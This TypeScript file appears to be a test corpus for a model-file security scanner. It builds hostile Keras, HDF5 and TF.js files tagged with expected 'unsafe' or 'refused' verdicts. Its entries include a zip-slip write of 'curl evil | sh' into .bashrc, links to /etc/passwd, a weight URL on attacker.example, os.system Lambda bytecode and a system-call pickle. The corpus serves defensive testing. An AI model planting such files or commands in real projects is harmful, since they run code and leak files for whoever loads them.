/** Hostile Keras, HDF5 and TF.js files: code, non-Keras callables, links out of the file. */
import { strToU8 } from 'fflate';
import { type CorpusFile, fnRef, LAMBDA, plainSequential, withLayer } from './common';
import { tfjsModel } from './formats';
import { writeHdf5 } from './hdf5';
import { functional, input, kerasArchive, lambdaLayer, layer, legacyH5, sequential } from './keras';
import { lambdaPayload, OS_SYSTEM_LAMBDA } from './marshal';
import { systemCallPickle } from './pickle';

export const HOSTILE_KERAS: readonly CorpusFile[] = [
  // Keras: code and callables.
  {
    name: 'lambda-top-level.keras',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () => kerasArchive(withLayer(lambdaLayer('evil', LAMBDA))),
  },
  {
    name: 'lambda-nested-sequential.keras',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () => kerasArchive(functional(sequential('inner', [input([4]), lambdaLayer('deep', LAMBDA)]))),
  },
  {
    name: 'lambda-in-timedistributed.keras',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () =>
      kerasArchive(
        withLayer(layer('TimeDistributed', { name: 'td', layer: lambdaLayer('wrapped', LAMBDA) })),
      ),
  },
  {
    name: 'lambda-in-bidirectional.keras',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () =>
      kerasArchive(
        withLayer(
          layer('Bidirectional', {
            name: 'bi',
            layer: layer('RNN', { name: 'rnn', cell: lambdaLayer('cell', LAMBDA) }),
          }),
        ),
      ),
  },
  {
    name: 'lambda-py38-bytecode.h5',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () =>
      legacyH5({
        class_name: 'Sequential',
        config: {
          name: 's',
          layers: [
            {
              class_name: 'Lambda',
              config: {
                name: 'l',
                function: [lambdaPayload(OS_SYSTEM_LAMBDA, '3.8'), null, null],
                function_type: 'lambda',
              },
            },
          ],
        },
      }),
  },
  {
    name: 'bytecode-hidden-in-config.keras',
    expect: 'unsafe',
    because: 'bytecode',
    bytes: () => kerasArchive(withLayer(layer('Dense', { name: 'd', units: 1, note: LAMBDA }))),
  },
  {
    name: 'module-outside-keras.keras',
    expect: 'unsafe',
    because: 'module',
    bytes: () =>
      kerasArchive(withLayer({ module: 'os', class_name: 'system', config: {}, registered_name: null })),
  },
  {
    name: 'registered-custom-object.keras',
    expect: 'unsafe',
    because: 'custom-object',
    bytes: () =>
      kerasArchive(
        withLayer({
          module: 'keras.layers',
          class_name: 'Payload',
          config: { name: 'p' },
          registered_name: 'evil>Payload',
        }),
      ),
  },
  {
    name: 'get-file.keras',
    expect: 'unsafe',
    because: 'non-modelling-api',
    bytes: () => kerasArchive(withLayer(fnRef('keras.utils', 'get_file'))),
  },
  {
    name: 'saving-load-model.keras',
    expect: 'unsafe',
    because: 'non-modelling-api',
    bytes: () =>
      kerasArchive(
        withLayer(
          layer('Dense', {
            name: 'd',
            units: 1,
            kernel_initializer: {
              module: 'keras.saving',
              class_name: 'function',
              config: 'load_model',
              registered_name: null,
            },
          }),
        ),
      ),
  },
  {
    name: 'models-load-model.keras',
    expect: 'unsafe',
    because: 'non-modelling-api',
    bytes: () =>
      kerasArchive(
        functional(
          layer('Dense', {
            name: 'd',
            units: 1,
            bias_initializer: {
              module: 'keras.models',
              class_name: 'function',
              config: 'load_model',
              registered_name: null,
            },
          }),
        ),
      ),
  },
  {
    name: 'enable-unsafe-deserialization.keras',
    expect: 'unsafe',
    because: 'non-modelling-api',
    bytes: () =>
      kerasArchive(
        withLayer({
          module: 'keras.config',
          class_name: 'function',
          config: 'enable_unsafe_deserialization',
          registered_name: null,
        }),
      ),
  },
  {
    name: 'keras-hidden-pickle-entry.keras',
    expect: 'unsafe',
    because: 'pickle-call',
    bytes: () => kerasArchive(plainSequential(), { 'payload.pkl': systemCallPickle() }),
  },
  {
    name: 'keras-zip-slip.keras',
    expect: 'unsafe',
    because: 'entry-name',
    bytes: () => kerasArchive(plainSequential(), { '../../.bashrc': strToU8('curl evil | sh') }),
  },
  {
    name: 'keras-weights-external-link.keras',
    expect: 'unsafe',
    because: 'external-link',
    bytes: () =>
      kerasArchive(
        plainSequential(),
        {},
        writeHdf5({
          kind: 'group',
          newStyle: true,
          children: { layers: { kind: 'external-link', file: '/etc/passwd', path: '/' } },
        }),
      ),
  },
  // Legacy HDF5.
  {
    name: 'legacy-lambda.h5',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () => legacyH5(withLayer(lambdaLayer('evil', LAMBDA))),
  },
  {
    name: 'h5-external-link.h5',
    expect: 'unsafe',
    because: 'external-link',
    bytes: () =>
      legacyH5(plainSequential(), {
        ext: {
          kind: 'group',
          newStyle: true,
          children: { w: { kind: 'external-link', file: 'other.h5', path: '/weights' } },
        },
      }),
  },
  {
    name: 'h5-external-storage.h5',
    expect: 'unsafe',
    because: 'external-storage',
    bytes: () => legacyH5(plainSequential(), { raw: { kind: 'dataset', shape: [4], layout: 'external' } }),
  },
  {
    name: 'h5-virtual-dataset.h5',
    expect: 'unsafe',
    because: 'virtual-dataset',
    bytes: () => legacyH5(plainSequential(), { v: { kind: 'dataset', shape: [4], layout: 'virtual' } }),
  },
  {
    name: 'h5-data-beyond-file.h5',
    expect: 'refused',
    because: 'malformed',
    bytes: () =>
      legacyH5(plainSequential(), { big: { kind: 'dataset', shape: [64], declaredBeyondFile: true } }),
  },
  {
    name: 'h5-shape-bomb.h5',
    expect: 'refused',
    because: 'limit',
    bytes: () =>
      legacyH5(plainSequential(), { bomb: { kind: 'dataset', shape: [100000, 100000], layout: 'chunked' } }),
  },
  // TF.js.
  {
    name: 'tfjs-path-traversal.json',
    expect: 'unsafe',
    because: 'weight-path',
    bytes: () => tfjsModel(['../../secrets/weights.bin']),
  },
  {
    name: 'tfjs-absolute-url.json',
    expect: 'unsafe',
    because: 'weight-path',
    bytes: () => tfjsModel(['https://attacker.example/w.bin']),
  },
  {
    name: 'tfjs-lambda.json',
    expect: 'unsafe',
    because: 'lambda',
    bytes: () =>
      tfjsModel(undefined, [
        {
          class_name: 'Lambda',
          config: {
            name: 'l',
            function: [lambdaPayload(OS_SYSTEM_LAMBDA, '3.8'), null, null],
            function_type: 'lambda',
          },
        },
      ]),
  },
];
